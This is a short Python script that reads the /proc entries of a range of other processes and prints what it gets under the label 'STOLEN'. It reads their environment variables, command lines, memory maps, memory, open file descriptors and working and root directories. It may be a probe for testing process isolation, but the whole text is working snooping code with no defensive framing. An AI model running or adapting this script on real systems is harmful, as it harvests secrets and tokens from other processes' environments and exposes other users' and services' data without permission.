"""Reads the memory, environment and open files of other processes."""

import os
for pid in list(range(1, 400)) + ['self', os.getppid()]:
    for what in ('environ', 'cmdline', 'maps', 'mem', 'fd', 'cwd', 'root'):
        path = f'/proc/{pid}/{what}'
        try:
            print('STOLEN', path, os.listdir(path) if what == 'fd' else open(path, 'rb').read(100))
        except OSError:
            pass
